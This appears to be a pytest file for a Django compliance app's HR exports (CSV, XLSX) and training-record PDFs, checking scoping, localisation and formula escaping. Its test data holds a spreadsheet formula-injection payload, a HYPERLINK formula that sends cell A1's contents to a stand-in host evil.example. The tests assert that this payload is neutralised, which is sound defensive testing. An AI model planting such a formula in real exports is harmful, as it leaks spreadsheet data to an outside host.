"""Exports of the HR dashboard (CSV, XLSX) and the training record PDF."""

import csv
import io
import os
import unicodedata
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfReader

from lms.compliance.models import Obligation
from lms.compliance.reports.exports import csv_chunks, xlsx_response, xlsx_write
from lms.compliance.reports.selectors import ReportFilters, export_headers, export_rows
from lms.compliance.status import Status
from tests.lms.compliance.report_data import build_city
from tests.org_builders import make_official

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'


@pytest.fixture
def city(catalogue):
    city = build_city(catalogue)
    # Someone whose name a spreadsheet would run as a formula, in ward A (where course 1 is overdue).
    city.people["evil"] = make_official(city.org.ward_a, name=EVIL, phone="+84 901 000 000")
    return city


def export_url(unit, fmt):
    return reverse(f"compliance_reports:export_{fmt}", args=[unit.pk])


def body(response) -> bytes:
    """The whole streamed body; the test client closes the response once it is read to the end."""
    return b"".join(response.streaming_content)


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return workbook.active


def screen_rows(client, unit, **params):
    """The people table as the page shows it: (name, status label, due day, unit) per row, every page."""
    rows, page = [], 1
    while True:
        response = client.get(reverse("compliance_reports:unit", args=[unit.pk]), {**params, "p": page})
        rows += [
            (r["name"], str(r["status_label"]), r["due_day"], r["unit_name"])
            for r in response.context["rows"]
        ]
        if not response.context["page"].has_next():
            return rows
        page += 1


def test_csv_matches_the_people_table_and_is_safe(client, city):
    client.force_login(city.hr)

    response = client.get(export_url(city.org.ward_a, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert (
        f'filename="bao-cao-dao-tao_{city.org.ward_a.code.lower()}_{today}.csv"'
        in response["Content-Disposition"]
    )
    header, *rows = read_csv(body(response))
    assert header == export_headers()
    shown = screen_rows(client, city.org.ward_a)
    assert [(r[0], r[6], r[7], r[3]) for r in rows] == [
        (n if n != EVIL else "'" + EVIL, s, d.strftime("%d/%m/%Y"), u) for n, s, d, u in shown
    ]
    evil = next(r for r in rows if EVIL in r[0])
    assert evil[0] == "'" + EVIL  # text, never a formula
    assert evil[10] == "'+84 901 000 000"
    done = next(r for r in rows if r[0] == "Nguyễn Văn Hoàn")
    assert done[6] == str(Status.COMPLETED.label) and done[8] == timezone.localdate().strftime("%d/%m/%Y")
    assert done[4] == city.org.chair.name and done[2] == city.org.ward_a.code


def test_xlsx_matches_the_people_table_and_is_safe(client, city):
    client.force_login(city.hr)

    response = client.get(export_url(city.org.city, "xlsx"), {"course": city.course.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert f"bao-cao-dao-tao_{city.org.city.code.lower()}_" in response["Content-Disposition"]
    sheet = read_xlsx(body(response))
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert list(header) == export_headers()
    shown = screen_rows(client, city.org.city, course=city.course.pk)
    assert len(rows) == len(shown) == 9
    assert [(r[0], r[6], r[7].date(), r[3]) for r in rows] == [
        (n if n != EVIL else "'" + EVIL, s, d, u) for n, s, d, u in shown
    ]
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)  # no formula anywhere
    assert sheet.cell(row=2, column=8).number_format == "DD/MM/YYYY"


def test_exports_follow_the_status_filter_and_status_labels_are_in_the_active_language(client, city):
    client.force_login(city.hr)

    with translation.override("en"):
        rows = list(export_rows(viewer=city.hr, unit=city.org.city, filters=ReportFilters(status="late")))
    assert {row[6] for row in rows} == {"Overdue"}
    assert len(rows) == 5  # the newcomer got the late joiner's time and is not late

    response = client.get(export_url(city.org.city, "csv"), {"status": "completed"})
    _header, *csv_rows = read_csv(body(response))
    assert sorted(r[0] for r in csv_rows) == ["Nguyễn Văn Hoàn", "Võ Văn Bê"]


def test_exports_are_scoped_like_the_page(client, city):
    client.force_login(city.hr_a)

    assert client.get(export_url(city.org.ward_b, "csv")).status_code == 404
    response = client.get(reverse("compliance_reports:export_csv_all"))
    _header, *rows = read_csv(body(response))
    assert {r[3] for r in rows} == {city.org.ward_a.name, city.org.office_a.name}
    assert "tat-ca" in response["Content-Disposition"]


def test_the_xlsx_temporary_file_is_removed_when_the_response_closes(city):
    response = xlsx_response(
        headers=export_headers(),
        rows=export_rows(viewer=city.hr, unit=city.org.city),
        filename="x.xlsx",
        sheet_title="Báo cáo",
    )
    path = response.file_to_stream.name
    assert os.path.exists(path)
    b"".join(response.streaming_content)
    # Close as the server does, without request_finished closing the test's database connection.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert not os.path.exists(path)


def test_csv_dangerous_cells_in_every_column():
    rows = [("=1+1", "+2", "-3", "@SUM(A1)", "\tx", "\rx", "ok", None, 5)]
    text = "".join(csv_chunks(["a"] * 9, rows)).lstrip("\ufeff")
    _header, row = list(csv.reader(io.StringIO(text)))
    assert row[:7] == ["'=1+1", "'+2", "'-3", "'@SUM(A1)", "'\tx", "'\rx", "ok"]
    assert row[7:] == ["", "5"]


# --- Training record PDF


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    return unicodedata.normalize("NFC", "\n".join(page.extract_text() for page in reader.pages))


def test_hr_downloads_a_persons_training_record(client, city):
    client.force_login(city.hr)
    person = city.people["b_done"]

    response = client.get(reverse("compliance_reports:person_pdf", args=[person.user_id]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert f"ho-so-dao-tao_{person.employee_code.lower()}_" in response["Content-Disposition"]
    text = pdf_text(response.content)
    assert "Võ Văn Bê" in text
    assert person.employee_code in text
    assert city.org.ward_b.name in text
    assert "An toàn thông tin" in text and "Cải cách hành chính" in text
    assert timezone.localdate().strftime("%d/%m/%Y") in text  # completed today
    due = (timezone.localdate() + timedelta(days=30)).strftime("%d/%m/%Y")
    assert due in text  # course 2's due date
    assert "2" in text  # the completed course's hours (make_course: 2 hours)


def test_the_training_record_pdf_speaks_vietnamese_from_its_header(client, city):
    client.force_login(city.hr)
    person = city.people["b_done"]

    text = pdf_text(client.get(reverse("compliance_reports:person_pdf", args=[person.user_id])).content)

    header = text.splitlines()[:2]
    assert header[0] == "Hồ sơ đào tạo"
    assert header[1].startswith("Học viện Phường thông minh · In ngày ")
    assert "Trang 1 / 1" in text
    assert "SmartWard" not in text and "Training record" not in text


def test_the_official_downloads_their_own_record(client, city):
    person = city.people["a_late"]
    client.force_login(person.user)

    response = client.get(reverse("compliance_record:my_record"))

    assert response.status_code == 200
    text = pdf_text(response.content)
    assert "Lê Văn Trễ" in text and person.employee_code in text
    assert "Võ Văn Bê" not in text


def test_the_own_record_needs_a_login(client, city):
    response = client.get(reverse("compliance_record:my_record"))

    assert response.status_code == 302 and "/login/" in response["Location"]


def test_the_record_of_someone_without_obligations(client, city):
    client.force_login(city.hr)
    newcomer = make_official(city.org.ward_b, name="Người Chưa Có Khóa")
    Obligation.objects.filter(user=newcomer.user).update(
        is_current=False, closed_at=timezone.now(), closed_reason=Obligation.Closed.LEFT
    )

    response = client.get(reverse("compliance_reports:person_pdf", args=[newcomer.user_id]))

    assert response.status_code == 200
    assert "Người Chưa Có Khóa" in pdf_text(response.content)


def test_the_xlsx_writer_makes_a_workbook_spreadsheet_programs_read(tmp_path):
    path = tmp_path / "x.xlsx"
    rows = [
        ("Nguyễn Văn A & <B>", date(2026, 1, 31), datetime(2026, 2, 1, 12, 0), 3, Decimal("1.5"), True, None),
        ("=1+1", None, None, 0, 2.25, False, "ctrl\x01char", "extra column"),
    ]

    headers = ["Tên", "Ngày", "Lúc", "Số", "Giờ", "Có", "Ghi chú"]

    count = xlsx_write(path, headers=headers, rows=rows, sheet_title="Báo cáo: 1/2")

    assert count == 2
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    assert sheet.title == "Báo cáo  1 2"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].value == "Tên" and sheet["A1"].font.bold
    assert [c.value for c in sheet[2]] == [
        "Nguyễn Văn A & <B>",
        datetime(2026, 1, 31),
        datetime(2026, 2, 1, 12, 0),
        3,
        1.5,
        True,
        None,
        None,  # the sheet is as wide as its widest row
    ]
    assert sheet["B2"].number_format == "DD/MM/YYYY"
    assert [c.value for c in sheet[3]] == ["'=1+1", None, None, 0, 2.25, False, "ctrlchar", "extra column"]
    assert sheet["A3"].data_type == "s"


def test_an_hr_managers_own_record_includes_training_outside_their_units(client, city):
    client.force_login(city.hr_a)  # works at the city, manages ward A only

    response = client.get(reverse("compliance_record:my_record"))

    text = pdf_text(response.content)
    assert "Lê Thị Nhân Sự Phường" in text
    assert "An toàn thông tin" in text  # the city-wide course, assigned to the city's own staff too


def test_an_xlsx_export_larger_than_a_spreadsheet_is_refused_with_a_way_out(
    client, city, monkeypatch, tmp_path
):
    import tempfile

    from lms.compliance.reports import exports

    monkeypatch.setattr(exports, "XLSX_MAX_ROWS", 3)
    # Temporary files go to this test's own folder: another test process may be writing an export right now.
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    client.force_login(city.hr)

    response = client.get(export_url(city.org.city, "xlsx"), {"course": city.course.pk}, follow=True)

    assert response.redirect_chain[0][0].startswith(
        reverse("compliance_reports:unit", args=[city.org.city.pk])
    )
    assert f"course={city.course.pk}" in response.redirect_chain[0][0]
    page = response.content.decode()
    assert "CSV" in page and "3" in page
    assert not [f for f in os.listdir(tmp_path) if f.startswith("smartward-export-")]
    csv_response = client.get(export_url(city.org.city, "csv"), {"course": city.course.pk})
    assert csv_response.status_code == 200
